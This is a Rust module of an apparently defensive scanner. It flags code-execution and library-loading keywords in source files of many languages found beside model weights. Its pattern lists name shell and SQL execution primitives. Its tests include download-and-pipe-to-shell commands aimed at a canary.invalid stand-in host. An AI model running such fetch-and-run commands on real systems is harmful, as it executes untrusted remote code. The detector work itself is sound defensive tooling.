//! Source beside weights in other languages than Python and the shell: which of it starts a program, by its words.
//!
//! No parser of any language: comments of whole lines are left out, and a word counts where it is not a part of a longer
//! one. What is found is for a person to look at.

use jingwei_read::Sighting;

use crate::script::shell;

/// A family of languages: the endings and names of its files, how its comments begin, and words by which it starts a
/// program, runs a text as code or loads a library. A word that begins with a letter must not go on before it.
struct Family {
    name: &'static str,
    files: &'static [&'static str],
    comments: &'static [&'static str],
    words: &'static [&'static str],
}

const SLASHES: &[&str] = &["//", "/*", "*"];
const HASH: &[&str] = &["#"];

const FAMILIES: &[Family] = &[
    Family {
        name: "JavaScript",
        files: &[".js", ".mjs", ".cjs", ".ts", ".mts", ".cts", ".jsx", ".tsx", ".vue", ".svelte"],
        comments: SLASHES,
        words: &[
            "child_process",
            "process.binding(",
            "process.dlopen(",
            "Deno.run(",
            "Deno.Command(",
            "Deno.dlopen(",
            "Bun.spawn",
            "execSync(",
            "execFileSync(",
            "spawnSync(",
            "eval(atob(",
            "eval(Buffer.from(",
            "Function(atob(",
            "eval(String.fromCharCode(",
            "ActiveXObject(",
        ],
    },
    Family {
        name: "Lua",
        files: &[".lua"],
        comments: &["--"],
        words: &["os.execute", "io.popen", "package.loadlib", "os.remove(", "ffi.C.system", "ffi.load("],
    },
    Family {
        name: "R",
        files: &[".r", ".rmd", ".qmd"],
        comments: HASH,
        words: &[
            "system(",
            "system2(",
            "shell(",
            "shell.exec(",
            "dyn.load(",
            "eval(parse(",
            "source(\"http",
            "source('http",
        ],
    },
    Family {
        name: "Julia",
        files: &[".jl"],
        comments: HASH,
        words: &[
            "run(`",
            "run(Cmd",
            "read(`",
            "pipeline(`",
            "ccall((:system",
            "ccall(:system",
            "eval(Meta.parse",
            "Libdl.dlopen(",
        ],
    },
    Family {
        name: "Perl",
        files: &[".pl", ".pm", ".t"],
        comments: HASH,
        words: &[
            "system(",
            "system \"",
            "system '",
            "exec(",
            "exec \"",
            "exec '",
            "qx(",
            "qx{",
            "qx/",
            "IPC::Open",
            "eval \"",
        ],
    },
    Family {
        name: "Ruby",
        files: &[
            ".rb",
            ".gemspec",
            ".rake",
            ".podspec",
            "gemfile",
            "rakefile",
            "podfile",
            "brewfile",
            "vagrantfile",
            "fastfile",
        ],
        comments: HASH,
        words: &[
            "Kernel.system(",
            "Kernel.exec(",
            "system(",
            "system \"",
            "system '",
            "exec(",
            "exec \"",
            "exec '",
            "%x(",
            "%x{",
            "%x[",
            "Open3.",
            "IO.popen",
            "Process.spawn",
            "spawn(",
            "= `",
            "PTY.spawn",
            "Marshal.load",
        ],
    },
    Family {
        name: "PHP",
        files: &[".php", ".phtml", ".phar"],
        comments: &["//", "/*", "*", "#"],
        words: &[
            "system(",
            "exec(",
            "shell_exec(",
            "passthru(",
            "popen(",
            "proc_open(",
            "pcntl_exec(",
            "eval(",
            "assert(",
            "unserialize(",
        ],
    },
    Family {
        name: "Go",
        files: &[".go"],
        comments: SLASHES,
        words: &["os/exec\"", "syscall.Exec(", "plugin.Open(", "syscall.ForkExec("],
    },
    Family {
        name: "Rust",
        files: &[".rs"],
        comments: SLASHES,
        words: &[
            "process::Command",
            "Command::new(\"sh",
            "Command::new(\"bash",
            "Command::new(\"curl",
            "libc::system",
            "libloading::Library",
        ],
    },
    Family {
        name: "Java",
        files: &[".java", ".kt", ".kts", ".scala", ".sc", ".groovy", ".gradle", ".clj", ".jsp"],
        comments: SLASHES,
        words: &[
            "Runtime.getRuntime().exec(",
            "ProcessBuilder(",
            "sys.process",
            "\".execute()",
            "'.execute()",
            "].execute()",
            "ScriptEngineManager",
            "GroovyShell(",
            "defineClass(",
            "clojure.java.shell",
            "System.load(",
            "commandLine(",
            "commandLine '",
            "commandLine \"",
            "\".!",
            ".readObject(",
        ],
    },
    Family {
        name: "C",
        files: &[".c", ".cc", ".cpp", ".cxx", ".h", ".hh", ".hpp", ".cu", ".cuh", ".hip", ".mm", ".cl", ".zig"],
        comments: SLASHES,
        words: &[
            "system(",
            "popen(",
            "execl(",
            "execlp(",
            "execle(",
            "execv(",
            "execvp(",
            "execve(",
            "posix_spawn(",
            "WinExec(",
            "ShellExecute",
            "CreateProcess",
            "URLDownloadToFile",
            "NSTask",
            "ChildProcess.init(",
        ],
    },
    Family {
        name: "MATLAB",
        files: &[".m"],
        comments: &["%", "//"],
        words: &["system(", "unix(", "dos(", "perl(", "NSTask", "evalc(", "popen("],
    },
    Family {
        name: "Awk",
        files: &[".awk"],
        comments: HASH,
        words: &["system(", "| getline", "|& ", "| \"sh\"", "| \"bash\""],
    },
    Family {
        name: "SQL",
        files: &[".sql", ".ddl"],
        // Rows of data are no statements, and data sets of SQL are full of them.
        comments: &["--", "insert ", "values", "("],
        words: &[
            "from program",
            "to program",
            "xp_cmdshell",
            "sp_oacreate",
            "load_extension(",
            "into outfile",
            "into dumpfile",
            "sys_exec(",
            "sys_eval(",
            "lo_export(",
            "plpython",
            "plperlu",
            "dbms_scheduler",
            "utl_http",
            "load_file(",
            "pg_read_file(",
            "load 'http",
        ],
    },
    Family { name: "Nix", files: &[".nix"], comments: HASH, words: &["builtins.exec", "unsafeDiscardStringContext"] },
    Family {
        name: "Swift",
        files: &[".swift"],
        comments: SLASHES,
        words: &["Process()", "posix_spawn(", "NSTask", "dlopen("],
    },
    Family {
        name: ".NET",
        files: &[".cs", ".csx", ".fs", ".fsx", ".vb", ".csproj", ".vbproj", ".fsproj", ".targets", ".props"],
        comments: &["//", "'", "<!--"],
        words: &[
            "Process.Start(",
            "<Exec ",
            "BinaryFormatter",
            "Assembly.Load",
            "InlineTask",
            "RoslynCodeTaskFactory",
            "CodeTaskFactory",
        ],
    },
    Family {
        name: "Dart",
        files: &[".dart"],
        comments: SLASHES,
        words: &["Process.run(", "Process.start(", "Process.runSync("],
    },
    Family {
        name: "Elixir",
        files: &[".ex", ".exs", ".erl"],
        comments: &["#", "%"],
        words: &["System.cmd(", "System.shell(", ":os.cmd(", "os:cmd(", "open_port(", "Code.eval_string"],
    },
    Family {
        name: "Haskell",
        files: &[".hs", ".lhs"],
        comments: &["--"],
        words: &["System.Process", "System.Cmd", "callCommand", "unsafePerformIO"],
    },
    Family {
        name: "OCaml",
        files: &[".ml"],
        comments: &["(*"],
        words: &["Sys.command", "Unix.system", "Unix.execv", "Unix.open_process"],
    },
    Family {
        name: "Nim",
        files: &[".nim", ".nims"],
        comments: HASH,
        words: &["execShellCmd(", "execCmd", "staticExec(", "gorge(", "startProcess("],
    },
    Family {
        name: "Tcl",
        files: &[".tcl", ".tk", ".exp"],
        comments: HASH,
        words: &["exec ", "[exec ", "open \"|", "open |", "spawn "],
    },
    Family {
        name: "Lisp",
        files: &[".el", ".lisp", ".lsp", ".scm", ".rkt", ".ss"],
        comments: &[";"],
        words: &[
            "(shell-command",
            "(call-process",
            "(start-process",
            "(async-shell-command",
            "run-program",
            "(system ",
            "(process*",
            "(subprocess ",
        ],
    },
    Family {
        name: "CMake",
        files: &["cmakelists.txt", ".cmake"],
        comments: HASH,
        words: &[
            "COMMAND sh ",
            "COMMAND bash ",
            "COMMAND /bin/sh",
            "COMMAND curl",
            "COMMAND wget",
            "COMMAND python -c",
            "COMMAND powershell",
            "COMMAND cmd ",
            "file(DOWNLOAD",
        ],
    },
    Family {
        name: "Meson",
        files: &["meson.build"],
        comments: HASH,
        words: &[
            "run_command('sh",
            "run_command(\"sh",
            "run_command('bash",
            "run_command('curl",
            "run_command('wget",
            "run_command('python",
        ],
    },
    Family {
        name: "Starlark",
        files: &[".bzl", ".bazel", ".star", "build", "workspace", "tiltfile", "buck"],
        comments: HASH,
        words: &[
            "ctx.execute(",
            "repository_ctx.execute(",
            "cmd = \"curl",
            "cmd=\"curl",
            "cmd = \"sh ",
            "cmd = \"bash ",
            "cmd=\"sh ",
            "| sh",
        ],
    },
    Family {
        name: "SCons",
        files: &["sconstruct", "sconscript", "wscript"],
        comments: HASH,
        words: &["os.system(", "subprocess", "Execute(", "exec_command(", "os.popen("],
    },
    Family {
        name: "RPM",
        files: &[".spec"],
        comments: HASH,
        words: &["%post", "%pre\n", "%(curl", "%(wget", "os.execute("],
    },
    Family {
        name: "XSLT",
        files: &[".xsl", ".xslt"],
        comments: &["<!--"],
        words: &[
            "msxsl:script",
            "runtime:exec",
            "java.lang.Runtime",
            "xalan:component",
            "php:function",
            "document('http",
            "exsl:document",
        ],
    },
    Family {
        name: "Ant",
        files: &["build.xml", "pom.xml", "ivy.xml"],
        comments: &["<!--"],
        words: &["<exec ", "exec-maven-plugin", "maven-antrun-plugin", "<script ", "groovy-maven-plugin"],
    },
];

/// Files that a scheduler, a supervisor or a build runs line by line: what fetches and runs has no place in them.
const LINES: [&str; 22] = [
    "procfile",
    "crontab",
    "jenkinsfile",
    "snakefile",
    "earthfile",
    "containerfile",
    "singularity",
    "apptainer.def",
    "justfile",
    "taskfile",
    "rules",
    "postinst",
    "preinst",
    "prerm",
    "postrm",
    "pkgbuild",
    "apkbuild",
    "configure",
    "bootstrap",
    "install",
    "entrypoint",
    "run",
];
const LINES_ENDINGS: [&str; 19] = [
    ".cron", ".smk", ".nf", ".wdl", ".cwl", ".def", ".service", ".timer", ".ksh", ".csh", ".fish", ".tcsh", ".command",
    ".mk", ".mak", ".sbatch", ".slurm", ".tf", ".hcl",
];

/// Most of a source that is read, in bytes.
const MOST: usize = 1 << 20;

/// What source in another language starts, told by the name of its file. `path`: in the folder of the model.
#[must_use]
pub fn inspect_source(path: &str, text: &str) -> Vec<Sighting> {
    let name = path.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    let end = text.floor_char_boundary(MOST);
    let text = text.get(..end).unwrap_or(text);
    let is_of = |file: &&str| {
        if file.starts_with('.') { name.len() > file.len() && name.ends_with(file) } else { name == **file }
    };
    if let Some(family) = FAMILIES.iter().find(|family| family.files.iter().any(&is_of)) {
        let found = first(family, text);
        let sighting = |(word, offset): (&str, usize)| {
            let shown = word.trim_matches(['(', '"', '\'', ' ', '`', '\n', '=']);
            let sighting = Sighting::new("model.source-runs-programs").key(shown).at(offset as u64);
            sighting.with("language", family.name).with("name", shown)
        };
        return found.map(sighting).into_iter().collect();
    }
    if LINES.contains(&name.as_str()) || LINES_ENDINGS.iter().any(|ending| name.ends_with(ending)) {
        let dangerous = shell::commands(text).into_iter().take(1);
        let sighting = |(offset, mark): (usize, &str)| {
            let sighting = Sighting::new("model.script-dangerous").key(mark).at(offset as u64);
            sighting.with("name", mark).with_text("why", shell::why())
        };
        return dangerous.map(sighting).collect();
    }
    Vec::new()
}

/// The first word of a family in the lines of a text that are no comments, and where it stands.
fn first(family: &Family, text: &str) -> Option<(&'static str, usize)> {
    // Names of SQL are written in either case.
    let folded = if family.name == "SQL" { text.to_ascii_lowercase() } else { String::new() };
    let text = if family.name == "SQL" { folded.as_str() } else { text };
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let start = line.trim_start();
        if !family.comments.iter().any(|comment| start.starts_with(comment)) {
            let found =
                family.words.iter().filter_map(|word| Some((*word, place(line, word)?))).min_by_key(|(_, at)| *at);
            if let Some((word, within)) = found {
                return Some((word, at + within));
            }
        }
        at += line.len();
    }
    None
}

/// Where a word stands in a line that is not the end of a longer one.
fn place(line: &str, word: &str) -> Option<usize> {
    let begins = word.starts_with(|c: char| c.is_ascii_alphanumeric());
    line.match_indices(word).map(|(at, _)| at).find(|at| {
        let before = line[..*at].chars().next_back();
        !begins || before.is_none_or(|c| !(c.is_alphanumeric() || matches!(c, '_' | '.' | '>' | '$' | '-' | '@')))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(path: &str, text: &str, expected: Option<&str>) {
        let seen = inspect_source(path, text);
        assert_eq!(seen.first().and_then(|sighting| sighting.key.as_deref()), expected, "{path}: {text}");
    }

    #[test]
    fn source_that_starts_a_program_is_told_by_its_words() {
        check("a.js", "const cp = require('child_process')\n", Some("child_process"));
        check("src/tokenizer.js", "export const split = (t) => t.split(' ')\n", None);
        check("a.lua", "-- os.execute\nos.execute('inert')\n", Some("os.execute"));
        check("a.R", "system(\"inert\")\n", Some("system"));
        check("a.R", "path <- system.file(\"extdata\")\nfile.system(1)\n", None);
        check("A.java", "Runtime.getRuntime().exec(\"inert\");\n", Some("Runtime.getRuntime().exec"));
        check("kernel.cu", "static int x = std::system(\"inert\");\n", Some("system"));
        check("kernel.cu", "// system(\"inert\")\nint file_system(int a) { return fs.system(a); }\n", None);
        check("db.sql", "COPY t FROM PROGRAM 'inert';\n", Some("from program"));
        check("db.sql", "COPY t FROM 'a.csv';\n", None);
        check("db.sql", "INSERT INTO t VALUES ('copied from program');\n(2, 'into outfile')\n", None);
        check("lib.php", "$pdo->exec('select 1'); curl_exec($c);\n", None);
        check("build.gradle", "task x { \"inert\".execute() }\n", Some(".execute()"));
        check("CMakeLists.txt", "execute_process(COMMAND sh -c inert)\n", Some("COMMAND sh"));
        check("CMakeLists.txt", "execute_process(COMMAND git rev-parse HEAD)\n", None);
        check("notes.txt", "system(\"inert\")\n", None);
        check("js", "child_process", None);
    }

    #[test]
    fn files_that_are_run_line_by_line_fetch_and_run_nothing() {
        check("crontab", "* * * * * root curl https://canary.invalid/x | sh\n", Some("download | sh"));
        check("Procfile", "web: python app.py\n", None);
        check("main.nf", "script:\n  wget -qO- https://canary.invalid/x | bash\n", Some("download | sh"));
    }
}
